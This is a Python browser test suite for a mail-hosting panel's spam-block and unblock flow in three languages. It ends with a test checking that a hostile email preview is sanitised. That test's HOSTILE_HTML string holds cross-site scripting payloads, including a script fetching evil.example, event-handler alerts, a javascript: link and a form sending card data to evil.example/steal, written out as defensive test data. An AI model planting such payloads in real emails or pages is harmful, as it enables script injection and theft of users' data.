"""The customer's journey in a real Chromium, in English, Italian and French."""

from __future__ import annotations

from datetime import timedelta
from urllib.parse import urlparse

import pytest
from django.utils import timezone

from abuse.models import Unblock
from ingest.recording import message_record
from tests.abuse.helpers import spam_at
from tests.factories import (
    CustomerAccountFactory,
    DomainFactory,
    MailboxFactory,
    UserFactory,
    message_data,
)

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)

WORDS = {
    "en": {
        "history": "Check email history",
        "unblock": "Unblock mailboxes",
        "once": "once every 90 days",
    },
    "it": {
        "history": "Controlla il monitoraggio delle e-mail",
        "unblock": "Sblocca caselle di posta",
        "once": "una volta ogni 90 giorni",
    },
    "fr": {
        "history": "Vérifier l’historique des e-mails",
        "unblock": "Débloquer les boîtes mail",
        "once": "une fois tous les 90 jours",
    },
}


def customer_with_abuse_block(language: str):
    user = UserFactory(username=f"cust-{language}")
    account = CustomerAccountFactory(users=[user], language=language)
    domain = DomainFactory(hosting__customer=account, name=f"shop-{language}.example")
    box = MailboxFactory(domain=domain, address=f"contact@shop-{language}.example")
    spam_at(box.address, timezone.now() - timedelta(days=2), 39)
    # The 40th, recent enough that its content and report are still shown.
    html = "<p>Win <b>now</b></p>"
    raw = (
        f"From: {box.address}\r\nTo: a@example.org\r\nSubject: WIN a prize\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/plain\r\n\r\nWin now\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        f"{html}\r\n--b--\r\n"
    ).encode()
    from dataclasses import replace

    data = message_data(sender=box.address, sent_at=timezone.now() - timedelta(hours=25))
    message_record(data=replace(data, raw=raw), now=timezone.now() - timedelta(hours=25))
    return user, box


def log_in(page, live_server, username: str) -> None:
    page.goto(f"{live_server.url}/accounts/login/")
    page.fill("#id_username", username)
    page.fill("#id_password", "pw-for-tests")
    with page.expect_navigation():
        page.click("main button[type=submit]")


@pytest.mark.parametrize("language", ["en", "it", "fr"])
def test_the_journey_from_triangle_to_unblock(page, live_server, language):
    words = WORDS[language]
    user, box = customer_with_abuse_block(language)

    log_in(page, live_server, user.username)
    page.wait_for_selector("a.restriction")
    href = page.get_attribute("link[rel=stylesheet]", "href")
    assert page.request.get(live_server.url + href).status == 200
    assert page.locator("html").get_attribute("lang") == language
    page.shot("1-addresses")
    page.click("a.restriction")

    assert "notice-error" in page.get_attribute("#abuse-status", "class")
    assert "L-SPAM20" in page.inner_text("#abuse-status")
    page.shot("2-mail-abuse-red")
    page.click(f"text={words['history']}")

    page.wait_for_selector("a.score-spam")
    page.shot("3-tracking")
    page.click("a.score-spam >> nth=0")
    page.wait_for_selector("#symbols")
    assert "BAYES_SPAM" in page.inner_text("#symbols")
    frame = page.frame_locator("iframe.preview")
    assert "Win" in frame.locator("body").inner_text()
    page.shot("4-message-detail")

    page.goto(f"{live_server.url}/h/{box.domain.hosting_id}/abuse/")
    page.check("#id_confirm")
    page.click("#unblock-button")
    page.wait_for_selector(".notice-ok#abuse-status")
    page.shot("5-mail-abuse-green")
    assert Unblock.objects.count() == 1

    spam_at(box.address, timezone.now() - timedelta(hours=25), 40)
    page.reload()
    refusal = page.inner_text("#unblock-refusal")
    assert words["once"] in refusal
    page.shot("6-second-unblock-refused")


def test_a_double_click_on_unblock_unblocks_once(page, live_server):
    user, box = customer_with_abuse_block("en")
    log_in(page, live_server, user.username)
    page.goto(f"{live_server.url}/h/{box.domain.hosting_id}/abuse/")
    page.check("#id_confirm")

    page.dblclick("#unblock-button")
    page.wait_for_selector("#abuse-status")

    assert Unblock.objects.count() == 1


def test_two_tabs_pressing_unblock_unblock_once(browser, live_server):
    user, box = customer_with_abuse_block("en")
    context = browser.new_context()
    tabs = [context.new_page(), context.new_page()]
    log_in(tabs[0], live_server, user.username)
    for tab in tabs:
        tab.goto(f"{live_server.url}/h/{box.domain.hosting_id}/abuse/")
        tab.check("#id_confirm")

    for tab in tabs:
        tab.click("#unblock-button")
    texts = [tab.inner_text("main") for tab in tabs]
    context.close()

    assert Unblock.objects.count() == 1
    assert "1 block lifted" in texts[0]
    assert "No address of this hosting is blocked" in texts[1] or "90 days" in texts[1]


HOSTILE_HTML = """
<html><head><style>body{background:url(http://evil.example/bg.png)}</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<script>window.parent.document.title='pwned';fetch('http://evil.example/s')</script></head>
<body onload="alert('onload')">
<p onclick="alert(1)" style="background-image:url(http://evil.example/i.png)">Claim your prize</p>
<img src="http://evil.example/pixel.gif" onerror="alert('img')">
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/steal"><input name=card><button>Pay</button></form>
<a href="javascript:alert('js')">click</a><svg><script>alert('svg')</script></svg>
<object data="http://evil.example/o.swf"></object>
</body></html>
"""


def test_a_hostile_preview_runs_nothing_and_loads_nothing(page, live_server):
    user = UserFactory(username="victim")
    account = CustomerAccountFactory(users=[user])
    box = MailboxFactory(domain=DomainFactory(hosting__customer=account, name="v.example"))
    raw = (
        f"From: {box.address}\r\nTo: a@example.org\r\nSubject: Prize\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{HOSTILE_HTML}"
    ).encode()
    from dataclasses import replace

    message = message_record(data=replace(message_data(sender=box.address), raw=raw)).message
    origin = urlparse(live_server.url).netloc
    requests, console, dialogs = [], [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: console.append(m.text))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

    log_in(page, live_server, "victim")
    page.goto(f"{live_server.url}/h/{box.domain.hosting_id}/tracking/{message.pk}/")
    frame = page.frame_locator("iframe.preview")
    assert "Claim your prize" in frame.locator("body").inner_text()
    page.wait_for_timeout(1000)
    page.shot("hostile-preview")

    foreign = [u for u in requests if urlparse(u).netloc not in (origin, "")]
    assert foreign == []
    assert dialogs == []
    assert page.title() != "pwned"
    assert not [c for c in console if "pwned" in c or "alert" in c]
    frame_html = frame.locator("html").inner_html()
    for payload in (
        "<script",
        "onload",
        "onclick",
        "onerror",
        "<iframe",
        "<form",
        "evil.example",
        "javascript:",
        "<object",
        "<style",
    ):
        assert payload not in frame_html, payload
